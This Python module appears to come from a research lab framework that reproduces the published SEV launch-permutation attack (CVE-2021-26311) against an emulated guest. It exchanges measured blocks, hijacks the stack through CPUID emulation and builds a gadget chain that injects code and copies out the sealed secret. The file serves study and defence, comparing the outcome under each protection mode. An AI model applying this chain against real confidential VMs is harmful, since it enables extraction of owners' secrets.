"""A11: the launch digest says what was loaded, not where."""

from __future__ import annotations

import itertools
import struct
from collections.abc import Sequence

from cbit.attacks.lab.assemble import assemble
from cbit.attacks.lab.attack import attack
from cbit.attacks.lab.guest import CODE, CPUID, HLT, SECRET, SHARED, TABLES, VIEW, Guest, Program
from cbit.attacks.lab.hands import Hands
from cbit.attacks.lab.log import Log
from cbit.attacks.lab.outcome import SUCCEEDS, Mode, does_not_apply, stopped_by, succeeds
from cbit.attacks.lab.scene import Facts, Scene
from cbit.attacks.lab.stand import Stand
from cbit.attacks.power import Power
from cbit.owner.measure.snp import Chain
from cbit.spec.address import BLOCK, PAGE
from cbit.spec.errors import BadMeasurement

#: A start-up path of aligned pieces, and further on some routines as any firmware has them: one that switches
#: stacks, ends of functions that restore registers, a store through a pointer.
FIRMWARE = """
    jmp start
.p2align 4, 0x90
start:
    mov eax, 1
    cpuid
    jmp next
.p2align 4, 0x90
next:
    mov r15d, eax
    jmp work
.p2align 4, 0x90
work:
    hlt
    jmp work
.org 0x2340, 0x90
switch_stack:
    mov rsp, rcx
    ret
.p2align 4, 0x90
.org 0x3450, 0x90
    pop rax
    ret
.org 0x3460, 0x90
    pop rdx
    ret
.org 0x3470, 0x90
    mov [rax], rdx
    ret
.org 0x3ff0, 0x90
    nop
"""
NEXT, SWITCH_STACK = CODE + 0x20, CODE + 0x2340
POP_RAX, POP_RDX, STORE = CODE + 0x3450, CODE + 0x3460, CODE + 0x3470
INJECTED = 0x28000  #: where the adversary's code is written, eight bytes at a time
STACK = VIEW + SHARED + PAGE  #: linear address of the stack that the host can write

#: The published copy gadget.
COPY = "pop rsi; pop rdi; pop rcx; rep movsb; hlt"


def firmware(stand: Stand) -> Scene:
    """Hand the host an image whose owner knows its digest; the host launches it."""
    secret = stand.entropy.draw(32)
    program = Program(FIRMWARE, data=((INJECTED, bytes(PAGE)),))
    image = program.image(c_bit=39)

    def launch(pieces: Sequence[tuple[int, bytes]]) -> Guest:
        if stand.variant == "addresses" and _with_addresses(pieces) != _with_addresses([(TABLES, image)]):
            raise BadMeasurement("a digest that covers addresses: something lies where it should not")
        guest = stand.guest(program, secret=secret, pieces=pieces)
        assert guest.peek(SECRET, len(secret)) == secret
        return guest

    return Scene((secret,), Facts({"image": image}), launcher=launch)


def _with_addresses(pieces: Sequence[tuple[int, bytes]]) -> bytes:
    """The digest that SNP's firmware would make of the same memory: page by page, with its address."""
    end = max(at + len(data) for at, data in pieces)
    memory = bytearray(-(-end // PAGE) * PAGE)
    for at, data in pieces:
        memory[at : at + len(data)] = data
    chain = Chain()
    chain.add_data(TABLES, bytes(memory[TABLES:]))
    return chain.digest


_UNMEASURED = does_not_apply("nothing is measured: the host loads what it likes")


@attack(
    title="undeSErVed trust: a launch out of order",
    paper="Wilke et al., WOOT 2021, CVE-2021-26311 (attacks.md A11)",
    holds={Power.CARRY_LAUNCH, Power.TAKE_EXITS, Power.EMULATE, Power.MAP_MEMORY},
    expect={
        Mode.NONE: _UNMEASURED,
        Mode.SME: _UNMEASURED,
        Mode.SEV: succeeds("the digest covers contents in the order of the calls, and no addresses"),
        Mode.SEV_ES: SUCCEEDS,
        Mode.SEV_SNP: stopped_by("each page's address is part of the digest"),
    },
    defences={"addresses": "a digest that covers addresses, as SNP's does: the owner gives no secret"},
    victim=firmware,
)
def launch_permutation(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Launch the owner's image with two blocks exchanged, and turn its start-up into a chain of pieces.

    1. LAUNCH_UPDATE_DATA is called in the original order of the plaintext, with a block of the start-up path
       and "switch the stack to rCX, return" at each other's addresses.  The digest is the one that the owner
       expects, and the secret is sealed for this guest.
    2. At the CPUID of the start-up the host answers with an address in shared memory.  That is the stack now.
    3. Chains of three pieces (pop rax; pop rdx; mov [rax], rdx) write eight bytes each to private memory.
    4. A return into what was written: fetches are private whatever the C-bit says.  It copies the secret out.
    """
    image = facts.data("image")
    pieces = _exchanged(image, NEXT - TABLES, SWITCH_STACK - TABLES)
    hands.launch(pieces)
    log.step(
        f"launched in {len(pieces)} pieces, the blocks of {NEXT:#x} and {SWITCH_STACK:#x} exchanged:"
        " the owner finds its digest and seals the secret"
    )
    blocks = len(image) // BLOCK
    log.figure(
        "16-byte blocks that can be placed at will",
        blocks,
        published="230 000 blocks for a 3.5 MB OVMF",
        source="undeSErVed trust §V-B (attacks.md A11)",
        difference="a small image",
    )
    hands.victim.until(CPUID)
    code = assemble(COPY, INJECTED)
    code += bytes(-len(code) % 8)
    chain = b""
    for at in range(0, len(code), 8):
        chain += struct.pack("<4Q", POP_RAX, INJECTED + at, POP_RDX, *struct.unpack("<Q", code[at : at + 8]))
        chain += struct.pack("<Q", STORE)
    out = VIEW + SHARED + 2 * PAGE
    chain += struct.pack("<4Q", INJECTED, SECRET, out, 32)
    hands.memory.write(hands.memory.spa(SHARED + PAGE), chain)
    log.step("the chain in shared memory", chain)
    log.figure(
        "bytes written by each chain of three pieces",
        8,
        "bytes",
        published="8, 3-gadget chain",
        source="undeSErVed trust §V-C (attacks.md A11)",
    )
    hands.emulation["rax"], hands.emulation["rcx"] = 0, STACK
    hands.victim.skip(2)
    log.step(
        f"CPUID is answered with rCX = {STACK:#x}, and the victim goes on to the block that is there now"
    )
    hands.victim.until(HLT)
    loot = hands.memory.read(hands.memory.spa(SHARED + 2 * PAGE), 32)
    log.step("the secret, copied to shared memory by the victim", loot)
    return loot


def _exchanged(image: bytes, first: int, second: int) -> list[tuple[int, bytes]]:
    """Cut an image so that two of its blocks lie at each other's places, in the order of the original."""
    cuts = [0, first, first + BLOCK, second, second + BLOCK, len(image)]
    places = {first: second, second: first}
    return [
        (TABLES + places.get(start, start), image[start:stop]) for start, stop in itertools.pairwise(cuts)
    ]
